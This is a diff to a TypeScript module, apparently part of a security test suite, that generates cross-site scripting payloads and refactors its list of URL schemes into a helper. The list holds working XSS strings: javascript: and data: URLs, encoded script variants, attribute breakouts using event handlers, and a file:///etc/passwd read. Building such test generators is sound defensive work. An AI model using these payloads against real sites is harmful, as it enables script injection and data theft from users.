@@ -1,15 +1,14 @@
 /** Generates payloads that try to run `pwned(1)` or to load something. The same number gives the same payloads. @module */
+
+import { listed } from '../samples/listed.ts'
 import { addressPayloads, textPayloads } from '../samples/payloads.ts'
 import { cases, codes, encodings, endings, quotings, separators, wrappers } from './xss-contexts.ts'
 import { events, firing, loaders, tags, templates } from './xss-elements.ts'
 
-const schemes: readonly string[] = [
-  'javascript:pwned(1)',
-  'javascript:top.pwned(1)',
-  'javascript://x.example/%0apwned(1)',
+const schemes: readonly string[] = listed(
+  'javascript:pwned(1)¦javascript:top.pwned(1)¦javascript://x.example/%0apwned(1)',
   'javascript:/*--></script><svg/onload=pwned(1)>*/pwned(1)',
-  'javascript:"<script>opener.pwned(1)</script>"',
-  'vbscript:pwned(1)',
+  'javascript:"<script>opener.pwned(1)</script>"¦vbscript:pwned(1)',
   'data:text/html,<script>opener.pwned(1)</script>',
   'data:text/html;base64,PHNjcmlwdD5wd25lZCgxKTwvc2NyaXB0Pg==',
   'data:text/html;charset=utf-7,+ADw-script+AD4-pwned(1)+ADw-/script+AD4-',
@@ -19,23 +18,14 @@ const schemes: readonly string[] = [
   'data:image/png;base64,"><img src=x onerror=pwned(1)>',
   'data:image/png,<script>pwned(1)</script>',
   'data:text/xml,<x:script xmlns:x="http://www.w3.org/1999/xhtml">pwned(1)</x:script>',
-  'data:,pwned(1)',
-  'blob:null/pwned(1)',
-  'view-source:javascript:pwned(1)',
-  'about:srcdoc',
-  'file:///etc/passwd',
-  'http:javascript:pwned(1)',
-  'https://x.example/" onmouseover="pwned(1)',
-  "https://x.example/' onmouseover='pwned(1)",
-  'https://x.example/`onmouseover=pwned(1)',
-  'https://x.example/"><script>pwned(1)</script>',
-  'mailto:a@b.example?"onmouseover="pwned(1)',
-  '#" onfocus="pwned(1)" autofocus="',
-  '#"><img src=x onerror=pwned(1)>',
-  '?"><img src=x onerror=pwned(1)>',
-  '//canary.invalid/"><script>pwned(1)</script>',
+  'data:,pwned(1)¦blob:null/pwned(1)¦view-source:javascript:pwned(1)¦about:srcdoc',
+  'file:///etc/passwd¦http:javascript:pwned(1)¦https://x.example/" onmouseover="pwned(1)',
+  "https://x.example/' onmouseover='pwned(1)¦https://x.example/`onmouseover=pwned(1)",
+  'https://x.example/"><script>pwned(1)</script>¦mailto:a@b.example?"onmouseover="pwned(1)',
+  '#" onfocus="pwned(1)" autofocus="¦#"><img src=x onerror=pwned(1)>',
+  '?"><img src=x onerror=pwned(1)>¦//canary.invalid/"><script>pwned(1)</script>',
   '\\\\canary.invalid\\x" onclick="pwned(1)',
-]
+)
 
 /** Spellings that browsers, or hasty filters, read as the same address. */
 const spellings: readonly ((address: string) => string)[] = [
